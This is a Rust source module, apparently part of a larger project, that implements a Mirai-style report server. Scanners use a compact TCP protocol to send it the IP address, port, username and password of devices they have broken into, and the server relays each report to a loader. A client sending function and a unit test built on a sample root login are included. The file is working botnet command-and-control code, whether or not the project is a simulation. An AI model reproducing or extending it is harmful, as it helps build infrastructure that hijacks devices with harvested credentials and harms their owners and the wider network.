//! The report server: scanners tell it who let them in. One zero byte, address, port, and user and password with
//! their lengths, as Mirai's scanner sends them.

use crate::{
    error::Result,
    things::serve_tcp,
    wire::{long, word},
};
use std::{
    io::{Read, Write},
    net::{Ipv4Addr, SocketAddrV4, TcpStream},
    sync::mpsc::Sender,
    time::Duration,
};

/// A device that let a scanner in.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Report {
    pub(crate) device: SocketAddrV4,
    pub(crate) user: String,
    pub(crate) password: String,
}

/// A scanner reports.
pub(crate) fn send(
    to: SocketAddrV4,
    device: SocketAddrV4,
    user: &str,
    password: &str,
) -> std::io::Result<()> {
    let mut stream = TcpStream::connect_timeout(&to.into(), Duration::from_secs(2))?;
    let mut report = vec![0];
    report.extend(device.ip().octets());
    report.extend(device.port().to_be_bytes());
    for text in [user, password] {
        report.push(text.len() as u8);
        report.extend(text.bytes());
    }
    stream.write_all(&report)
}

fn read(bytes: &[u8]) -> Option<Report> {
    let text = |at: usize| -> Option<(String, usize)> {
        let end = at + 1 + usize::from(*bytes.get(at)?);
        Some((String::from_utf8_lossy(bytes.get(at + 1..end)?).into_owned(), end))
    };
    let (user, end) = text(7)?;
    let (password, _) = text(end)?;
    let device = SocketAddrV4::new(Ipv4Addr::from_bits(long(bytes, 1)?), word(bytes, 5)?);
    Some(Report { device, user, password })
}

/// Takes reports and passes them on to the loader.
pub(crate) fn serve(port: u16, to: Sender<Report>) -> Result<()> {
    let to = std::sync::Mutex::new(to);
    serve_tcp(port, 32, move |stream, _| {
        let _ = stream.set_read_timeout(Some(Duration::from_secs(3)));
        let mut bytes = Vec::new();
        let _ = stream.take(600).read_to_end(&mut bytes);
        if let Some(report) = read(&bytes) {
            let _ = crate::city::world::lock(&to).send(report);
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cut_reports_are_none() {
        let whole = [0, 10, 0, 0, 7, 0, 23, 4, b'r', b'o', b'o', b't', 1, b'x'];
        let report = read(&whole).unwrap();
        assert_eq!(report.device, "10.0.0.7:23".parse().unwrap());
        assert_eq!((report.user.as_str(), report.password.as_str()), ("root", "x"));
        for cut in 0..whole.len() {
            assert_eq!(read(&whole[..cut]), None);
        }
    }
}
